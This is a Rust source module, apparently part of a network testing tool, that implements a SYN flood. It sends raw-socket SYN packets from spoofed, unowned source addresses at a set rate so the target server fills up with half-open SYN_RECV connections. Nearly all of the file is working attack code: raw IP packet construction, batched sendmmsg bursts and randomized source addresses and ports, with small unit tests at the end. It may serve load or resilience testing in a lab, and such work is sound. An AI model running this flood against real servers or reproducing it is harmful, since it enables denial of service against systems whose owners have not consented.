//! A scanner, or a flood: SYNs by raw socket from addresses at which nobody
//! answers, so that the server keeps them as SYN_RECV until its
//! retransmissions run out.

mod syn;

use std::{
    hash::{BuildHasher, Hasher, RandomState},
    io::IoSlice,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsFd, AsRawFd},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use nix::{
    errno::Errno,
    libc::IPPROTO_RAW,
    poll::{PollFd, PollFlags, ppoll},
    sys::{
        signal::Signal,
        signalfd::SignalFd,
        socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg},
        time::TimeSpec,
    },
};
use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

use super::{interval, say, signals};
use syn::{Packet, Syn};

/// As many packets go to the kernel at a time, at most.
const BURST: usize = 256;
/// As often, at most, unless there are more to send: so that a flood sleeps now and then.
const TICK: Duration = Duration::from_millis(1);

#[derive(clap::Args)]
#[command(args_override_self = true)]
pub struct Args {
    /// Server, as ADDRESS:PORT
    #[arg(long)]
    to: SocketAddrV4,
    /// Addresses to come from, as FIRST-LAST; nobody may own them
    #[arg(long, value_parser = range, default_value = "10.78.0.1-10.78.255.254")]
    from: (Ipv4Addr, Ipv4Addr),
    /// Come from any of them, and from any port, instead of one after the other
    #[arg(long)]
    random: bool,
    /// SYNs a second
    #[arg(long, default_value_t = 100)]
    rate: u32,
    /// How long, at most
    #[arg(long = "for", value_parser = humantime::parse_duration, default_value = "1m")]
    duration: Duration,
}

/// Prints `sending` after the first SYNs, and how many there were when the time is over or SIGTERM
/// has ended it.
pub fn run(args: &Args) -> Result<()> {
    let stop = signals([Signal::SIGTERM])?;
    let mut sender = Sender::new(args)?;
    let (interval, start) = (interval(args.rate)?, Instant::now());
    loop {
        let elapsed = start.elapsed();
        let due = elapsed.as_nanos() / interval.as_nanos() + 1;
        sender.send_up_to(due as u64)?;
        let next = (interval * sender.sent as u32).max(elapsed + TICK);
        if elapsed >= args.duration || told(&stop, next.saturating_sub(start.elapsed()))? {
            break;
        }
    }
    say(&json!({ "sent": sender.sent }).to_string())
}

/// Waits until that time has passed, or until we are told to stop: whether we are.
fn told(stop: &SignalFd, left: Duration) -> Result<bool> {
    let mut fds = [PollFd::new(stop.as_fd(), PollFlags::POLLIN)];
    match ppoll(&mut fds, Some(TimeSpec::from(left)), None) {
        Ok(ready) => Ok(ready > 0),
        Err(Errno::EINTR) => Ok(false),
        Err(error) => Err(error)?,
    }
}

struct Sender {
    socket: Socket,
    sources: Sources,
    syn: Syn,
    headers: MultiHeaders<SockaddrIn>,
    sent: u64,
}

impl Sender {
    fn new(args: &Args) -> Result<Self> {
        // IPPROTO_RAW: we write the IP header as well.
        let protocol = Protocol::from(IPPROTO_RAW);
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(protocol)).context("raw socket")?;
        socket.connect(&args.to.into())?;
        Ok(Self {
            socket,
            sources: Sources::new(args.from, args.random),
            syn: Syn::to(args.to),
            headers: MultiHeaders::preallocate(BURST, None),
            sent: 0,
        })
    }

    /// Sends until there are so many, but for a time only: we may have to stop.
    fn send_up_to(&mut self, due: u64) -> Result<()> {
        const BURSTS: usize = 8;
        let first = self.sent == 0;
        for _ in 0..BURSTS {
            let count = due.saturating_sub(self.sent).min(BURST as u64);
            if count == 0 {
                break;
            }
            self.burst(count as usize)?;
        }
        if first {
            say("sending")?;
        }
        Ok(())
    }

    fn burst(&mut self, count: usize) -> Result<()> {
        let packets: Vec<Packet> = (0..count)
            .map(|_| self.syn.from(self.sources.next()))
            .collect();
        let slices: Vec<[IoSlice; 1]> = packets.iter().map(|p| [IoSlice::new(p)]).collect();
        let (mut done, socket) = (0, self.socket.as_raw_fd());
        // It is connected.
        let nowhere = vec![None; count];
        while done < count {
            let (rest, headers) = (&slices[done..], &mut self.headers);
            let to = &nowhere[done..];
            let sent = sendmmsg(socket, headers, rest, to, [], MsgFlags::empty());
            done += sent.context("sendmmsg")?.count();
        }
        self.sent += count as u64;
        Ok(())
    }
}

/// Where SYNs come from: each address in turn and then with another port, or any.
struct Sources {
    first: u32,
    count: u32,
    n: u32,
    random: Option<Random>,
}

impl Sources {
    fn new((first, last): (Ipv4Addr, Ipv4Addr), random: bool) -> Self {
        Self {
            first: first.to_bits(),
            count: last.to_bits() - first.to_bits() + 1,
            n: 0,
            random: random.then(Random::new),
        }
    }

    fn next(&mut self) -> SocketAddrV4 {
        let (address, port) = match &mut self.random {
            Some(random) => (random.below(self.count), 1024 + random.below(64_512)),
            None => (self.n % self.count, 10_000 + self.n / self.count % 50_000),
        };
        self.n = self.n.wrapping_add(1);
        let address = Ipv4Addr::from_bits(self.first + address);
        SocketAddrV4::new(address, port as u16)
    }
}

/// Splitmix64, from where the standard library's randomness begins.
struct Random(u64);

impl Random {
    fn new() -> Self {
        Self(RandomState::new().build_hasher().finish())
    }

    fn below(&mut self, limit: u32) -> u32 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let z = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (((z >> 32) * u64::from(limit)) >> 32) as u32
    }
}

fn range(text: &str) -> Result<(Ipv4Addr, Ipv4Addr)> {
    let (first, last) = text.split_once('-').context("not FIRST-LAST")?;
    let range: (Ipv4Addr, Ipv4Addr) = (first.parse()?, last.parse()?);
    ensure!(range.0 <= range.1, "an empty range");
    Ok(range)
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn sources_come_round() {
        let range = range("10.78.0.1-10.78.0.3").unwrap();
        let mut sources = Sources::new(range, false);
        let mut at = || sources.next().to_string();
        assert_eq!(at(), "10.78.0.1:10000");
        assert_eq!(at(), "10.78.0.2:10000");
        assert_eq!(at(), "10.78.0.3:10000");
        assert_eq!(at(), "10.78.0.1:10001");
    }

    #[test]
    fn random_sources_stay_in_their_range() {
        let range = range("10.78.0.1-10.78.0.3").unwrap();
        let mut sources = Sources::new(range, true);
        let drawn: Vec<SocketAddrV4> = (0..1000).map(|_| sources.next()).collect();
        assert!(drawn.iter().all(|s| (range.0..=range.1).contains(s.ip())));
        assert!(drawn.iter().all(|s| s.port() >= 1024));
        let addresses: HashSet<_> = drawn.iter().map(|s| s.ip()).collect();
        let ports: HashSet<_> = drawn.iter().map(|s| s.port()).collect();
        assert!(addresses.len() == 3 && ports.len() > 900);
    }
}
